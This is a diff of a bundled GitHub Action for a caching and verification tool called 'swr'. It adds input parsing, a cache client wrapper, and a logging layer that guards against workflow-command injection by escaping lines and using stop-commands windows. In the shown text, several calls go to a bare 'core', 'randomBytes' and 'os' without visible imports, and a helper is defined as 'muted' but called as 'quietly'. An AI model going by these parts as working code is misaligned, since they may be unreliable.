+    const muted = async (fn) => {
+        if (!opts.logToStderr)
+            return fn();
+        const write = process.stdout.write.bind(process.stdout);
+        const stderrWrite = process.stderr.write.bind(process.stderr);
+        // The client's debug lines only matter when the runner asks for them (RUNNER_DEBUG=1).
+        const debug = opts.env.RUNNER_DEBUG === '1';
+        process.stdout.write = ((chunk) => {
+            const text = typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8');
+            if (!onRunner) {
+                // A terminal gets swr's own line for what the client warns about, no workflow commands.
+                for (const m of text.matchAll(/^::(?:warning|error)[^:]*::(.*)$/gm))
+                    opts.onNote?.(`cache: ${unescapeCommand(m[1] ?? '')}`);
+                return true;
+            }
+            const kept = debug
+                ? text
+                : text
+                    .split(/(?<=\n)/)
+                    .filter(l => !l.startsWith('::debug::'))
+                    .join('');
+            return kept ? stderrWrite(kept) : true;
+        });
+        try {
+            return await fn();
+        }
+        finally {
+            process.stdout.write = write;
+        }
+    };
+    const service = new CacheService(opts.env);
+    const note = (what, err) => opts.onNote?.(`cache ${what}: ${err instanceof Error ? err.message : String(err)}`);
+    return {
+        async find(abs, key, restoreKeys) {
+            try {
+                return await service.find(abs, key, restoreKeys);
+            }
+            catch (err) {
+                note(`restore of ${key} failed`, err);
+                return undefined;
+            }
+        },
+        async lookup(abs, key) {
+            try {
+                const cache = await client();
+                return ((await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }))) ===
+                    key);
+            }
+            catch (err) {
+                note(`lookup of ${key} failed`, err);
+                return false;
+            }
+        },
+        async save(abs, key) {
+            try {
+                const cache = await client();
+                // The client reports "already exists" and "unreachable" alike (-1): ask first.
+                const existing = await quietly(() => cache.restoreCache([spell(abs)], key, [], { lookupOnly: true }));
+                if (existing === key)
+                    return 'exists';
+                const id = await quietly(() => cache.saveCache([spell(abs)], key));
+                return id === -1 ? 'failed' : 'saved';
+            }
+            catch (err) {
+                const name = err instanceof Error ? err.name : '';
+                if (name === 'ReserveCacheError' || /already exists/i.test(String(err)))
+                    return 'exists';
+                note(`save of ${key} failed`, err);
+                return 'failed';
+            }
+        }
+    };
+}
+
+// EXTERNAL MODULE: ./node_modules/@actions/core/lib/core.js + 7 modules
+var lib_core = __nccwpck_require__(3838);
+;// CONCATENATED MODULE: ./src/action/constants.ts
+/** Every input, output and saved-state name of the Action, in one place. */
+const Inputs = {
+    Command: 'command',
+    Manifest: 'manifest',
+    Workspace: 'workspace',
+    Only: 'only',
+    Deep: 'deep',
+    Jobs: 'jobs',
+    Timeout: 'timeout',
+    HmacKey: 'hmac-key',
+    TrustedSigners: 'trusted-signers',
+    Require: 'require',
+    MinVersion: 'min-version',
+    ApproveDigest: 'approve-digest',
+    FailOn: 'fail-on',
+    Annotations: 'annotations',
+    Summary: 'summary',
+    Sarif: 'sarif',
+    CacheLookup: 'cache-lookup',
+    CanaryAt: 'canary-at',
+    CanaryVolatile: 'canary-volatile',
+    CanaryLargeBytes: 'canary-large-bytes',
+    CanaryHome: 'canary-home',
+    CanaryKey: 'canary-key',
+    Record: 'record'
+};
+/** Names of the state the main step hands to the post step. */
+const State = {
+    WriteBack: 'swr-write-back'
+};
+const Outputs = {
+    Status: 'status',
+    Healthy: 'healthy',
+    Damaged: 'damaged',
+    Repaired: 'repaired',
+    WipeSignature: 'wipe-signature',
+    Report: 'report',
+    ReportPath: 'report-path',
+    ManifestDigest: 'manifest-digest',
+    ExitCode: 'exit-code',
+    Stats: 'stats',
+    Canary: 'canary'
+};
+const COMMANDS = [
+    'check',
+    'doctor',
+    'restore',
+    'verify',
+    'canary-plant',
+    'canary-read',
+    'stats'
+];
+const SURVIVAL_COMMANDS = ['canary-plant', 'canary-read', 'stats'];
+const FAIL_ON = ['damage', 'unrepairable', 'never'];
+
+;// CONCATENATED MODULE: ./src/action/inputs.ts
+/**
+ * Typed, strict readers for the Action's inputs. Unknown values are refused with the input named:
+ * a typo in `fail-on` must not quietly turn a gate off.
+ */
+
+
+
+
+function choice(name, allowed, fallback) {
+    const v = lib_core/* getInput */.V4(name).trim();
+    if (v === '')
+        return fallback;
+    if (!allowed.includes(v))
+        throw new errors_UsageError(`input ${name}: "${v}" is not one of ${allowed.join(', ')}`);
+    return v;
+}
+function bool(name, fallback) {
+    const v = lib_core/* getInput */.V4(name).trim().toLowerCase();
+    if (v === '')
+        return fallback;
+    if (v === 'true')
+        return true;
+    if (v === 'false')
+        return false;
+    throw new errors_UsageError(`input ${name}: "${v}" is not true or false`);
+}
+function inputs_int(name, min, max) {
+    const v = lib_core/* getInput */.V4(name).trim();
+    if (v === '')
+        return undefined;
+    if (!/^\d+$/.test(v) || Number(v) < min || Number(v) > max)
+        throw new errors_UsageError(`input ${name}: "${v}" is not a whole number from ${min} to ${max}`);
+    return Number(v);
+}
+function list(name) {
+    return lib_core/* getInput */.V4(name)
+        .split(/[\n,]/)
+        .map(s => s.trim())
+        .filter(Boolean);
+}
+/** A canary measures: by default what it finds never fails the job. */
+function defaultFailOn(command) {
+    if (command === 'doctor' || command === 'restore')
+        return 'unrepairable';
+    if (SURVIVAL_COMMANDS.includes(command))
+        return 'never';
+    return 'damage';
+}
+function canaryKey() {
+    const v = lib_core/* getInput */.V4(Inputs.CanaryKey).trim() || 'default';
+    if (!/^[A-Za-z0-9._-]{1,64}$/.test(v))
+        throw new errors_UsageError(`input ${Inputs.CanaryKey}: "${v}" must be 1-64 of A-Z a-z 0-9 . _ -`);
+    return v;
+}
+function readInputs(env) {
+    const command = choice(Inputs.Command, COMMANDS, 'check');
+    // The manifest path is relative to the workspace input ($GITHUB_WORKSPACE by default); the
+    // directory it describes is the one it records (relative to itself), as with the CLI.
+    const root = external_node_path_default().resolve(env.GITHUB_WORKSPACE || process.cwd());
+    const base = external_node_path_default().resolve(root, lib_core/* getInput */.V4(Inputs.Workspace).trim() || '.');
+    const manifest = external_node_path_default().resolve(base, lib_core/* getInput */.V4(Inputs.Manifest).trim() || '.swr/manifest.json');
+    const workspace = undefined;
+    const hmacKey = lib_core/* getInput */.V4(Inputs.HmacKey);
+    const approve = lib_core/* getInput */.V4(Inputs.ApproveDigest).trim();
+    if (approve && !/^[0-9a-fA-F]{64}$/.test(approve))
+        throw new errors_UsageError(`input ${Inputs.ApproveDigest}: not a 64-digit hex digest`);
+    const sarif = lib_core/* getInput */.V4(Inputs.Sarif).trim();
+    return {
+        command,
+        manifest,
+        workspace,
+        root,
+        only: list(Inputs.Only),
+        deep: bool(Inputs.Deep, false),
+        jobs: inputs_int(Inputs.Jobs, 1, 32),
+        timeout: inputs_int(Inputs.Timeout, 1, 86400),
+        hmacKey: hmacKey === '' ? undefined : hmacKey,
+        trustedSigners: lib_core/* getInput */.V4(Inputs.TrustedSigners),
+        require: choice(Inputs.Require, ['hmac', 'mldsa', 'both'], 'mldsa'),
+        minVersion: inputs_int(Inputs.MinVersion, 1, Number.MAX_SAFE_INTEGER),
+        waiveDigest: approve || undefined,
+        failOn: choice(Inputs.FailOn, FAIL_ON, defaultFailOn(command)),
+        annotations: bool(Inputs.Annotations, true),
+        summary: bool(Inputs.Summary, true),
+        sarif: sarif ? external_node_path_default().resolve(base, sarif) : undefined,
+        cacheLookup: bool(Inputs.CacheLookup, false),
+        canaryWorkspace: base,
+        canaryAt: list(Inputs.CanaryAt),
+        canaryVolatile: list(Inputs.CanaryVolatile),
+        canaryLargeBytes: inputs_int(Inputs.CanaryLargeBytes, 0, 16 * 1024 * 1024 * 1024),
+        canaryHome: bool(Inputs.CanaryHome, true),
+        canaryKey: canaryKey(),
+        record: bool(Inputs.Record, false)
+    };
+}
+
+;// CONCATENATED MODULE: ./src/action/log.ts
+/**
+ * The only way the Action writes to its log. The runner reads every stdout line as a possible
+ * workflow command (`::warning::`, `::add-mask::`, `::stop-commands::`, `::save-state`), so a line
+ * swr prints must never be one that someone else authored: every message is passed through
+ * `escapeText` (no CR, LF or other control survives), a line can never start with `::`, and
+ * recipe output is printed only inside a `::stop-commands::` window with a random token. The lint
+ * configuration forbids `core.info` and friends, `console` and `process.stdout` elsewhere in
+ * src/action, so a raw print cannot come back unnoticed.
+ */
+
+
+
+
+/** Longest single log line swr prints; a hostile 10 MB name must not become a 10 MB line. */
+const LINE_MAX = 4096;
+/** One log line: escaped, bounded, and never read by the runner as a command. */
+function safeLine(text) {
+    const line = escape_escapeText(text, { max: LINE_MAX });
+    // The runner trims leading whitespace before looking for `::`.
+    return /^\s*::/.test(line) ? line.replace('::', '\\x3a:') : line;
+}
+/**
+ * A command's message: each of swr's own lines escaped; the runner gets them as one command.
+ * `%` is left to @actions/core, which percent-encodes command data and properties itself
+ * (encoding it here too would show `%25` where the name has `%`).
+ */
+function message(text) {
+    return text
+        .split('\n')
+        .map(l => safeLine(l))
+        .join('\n');
+}
+function props(p) {
+    if (!p)
+        return undefined;
+    return {
+        ...(p.title !== undefined ? { title: safeLine(p.title) } : {}),
+        ...(p.file !== undefined ? { file: safeLine(p.file) } : {}),
+        ...(p.startLine !== undefined ? { startLine: p.startLine } : {})
+    };
+}
+/** One line: a newline in `text` is shown as `\n`, never printed. */
+function info(text) {
+    lib_core/* info */.pq(safeLine(text));
+}
+/** Text from a report renderer (which escapes every untrusted string): one log line per line. */
+function rendered(text) {
+    for (const l of text.replace(/\n$/, '').split('\n'))
+        core.info(safeLine(l));
+}
+function warning(text, p) {
+    lib_core/* warning */.$e(message(text), props(p));
+}
+function error(text, p) {
+    core.error(message(text), props(p));
+}
+function notice(text, p) {
+    lib_core/* notice */.lm(message(text), props(p));
+}
+/** Shown only when the run has step debugging on (a stack for a bug report). */
+function debug(text) {
+    core.debug(message(text));
+}
+function setFailed(text) {
+    core.setFailed(message(text));
+}
+function startGroup(name) {
+    core.startGroup(safeLine(name));
+}
+function endGroup() {
+    core.endGroup();
+}
+/** Append Markdown built by the report renderers (which escape every untrusted string). */
+async function writeSummary(markdown) {
+    await core.summary.addRaw(markdown, true).write();
+}
+/**
+ * Recipe output must not act as workflow commands: it is printed inside a stop-commands window
+ * with a random token, opened before the first recipe line and closed before swr prints anything
+ * of its own (groups, errors, warnings), so swr's own commands still work.
+ */
+function makeShield() {
+    let token;
+    return {
+        recipeLine(line) {
+            if (!token) {
+                token = randomBytes(16).toString('hex');
+                process.stdout.write(`::stop-commands::${token}${os.EOL}`);
+            }
+            // A lone CR is a line break to some readers: keep each recipe line one line.
+            process.stdout.write(line.replace(/\r/g, '\\r') + os.EOL);
+        },
+        own() {
+            if (token)
+                process.stdout.write(`::${token}::${os.EOL}`);
+            token = undefined;
+        }
     };
 }
 
 ;// CONCATENATED MODULE: ./src/action/policy.ts
+/**
+ * The Action's signature policy, built from its inputs alone: the main step and the post step
+ * must judge a manifest by the same rules (the post step trusts nothing the main step handed it).
+ */
 
 function actionPolicy(m, inputs, env, stateDir) {
     return makePolicy(m, {
@@ -42449,7 +49560,7 @@ function actionPolicy(m, inputs, env, stateDir) {
         local: false,
         trustedSigners: inputs.trustedSigners ? [inputs.trustedSigners] : [],
         minVersion: inputs.minVersion,
-        approveDigest: inputs.approveDigest,
+        waiveDigest: inputs.waiveDigest,
         run: { repository: env.GITHUB_REPOSITORY, ref: env.GITHUB_REF },
         now: new Date()
     });
@@ -42466,10 +49577,6 @@ function actionPolicy(m, inputs, env, stateDir) {
  * keys and paths come from this step's own inputs and the signed manifest, which must pass the
  * same signature gate as in the main step. Any mismatch saves nothing.
  */
-
-
-
-
 
 
 
@@ -42498,7 +49605,7 @@ function parseHandOver(raw) {
         return undefined;
     if (!Array.isArray(ids) || ids.length === 0)
         return undefined;
-    if (!ids.every(id => typeof id === 'string' && ENTRY_ID.test(id)))
+    if (!ids.every(id => typeof id === 'string' && paths_ENTRY_ID.test(id)))
         return undefined;
     if (new Set(ids).size !== ids.length)
         return undefined;
@@ -42563,7 +49670,7 @@ async function post(env = process.env) {
             return;
         }
         const stateDir = external_node_fs_default().mkdtempSync(external_node_path_default().join(env.RUNNER_TEMP || external_node_os_default().tmpdir(), 'swr-post-'));
-        const gate = await decide(gateInput(m), actionPolicy(m, inputs, env, stateDir));
+        const gate = await gate_decide(gate_gateInput(m), actionPolicy(m, inputs, env, stateDir));
         if (!gate.allowed) {
             notice(`swr post: the manifest does not pass the signature gate: nothing saved`);
             return;
@@ -42583,17 +49690,17 @@ async function post(env = process.env) {
                 return;
             }
         }
-        const findings = await reverifier(m, stateDir)(wanted);
+        const findings = await selection_reverifier(m, { stateDir, nativeWalk: nativeWalkAllowed(env) })(wanted);
         const client = actionsCacheClient({ env, onNote: line => warning(line) });
         for (const e of wanted) {
-            const key = stateKey(e);
+            const key = cache_port_stateKey(e);
             const f = findings.find(x => x.id === e.id);
             if (f?.status !== 'OK') {
                 info(`swr post: ${e.id} no longer verifies (${f?.status ?? '?'}): not saved`);
                 continue;
             }
             // The path as the main step names it: the cache version hashes the path string.
-            const saved = await client.save(resolveEntryPath(m.workspace, e.path), key);
+            const saved = await client.save(paths_resolveEntryPath(m.workspace, e.path), key);
             info(`swr post: ${e.id} ${saved === 'saved' ? 'saved as' : saved === 'exists' ? 'already saved as' : 'could not be saved as'} ${key}`);
         }
     }
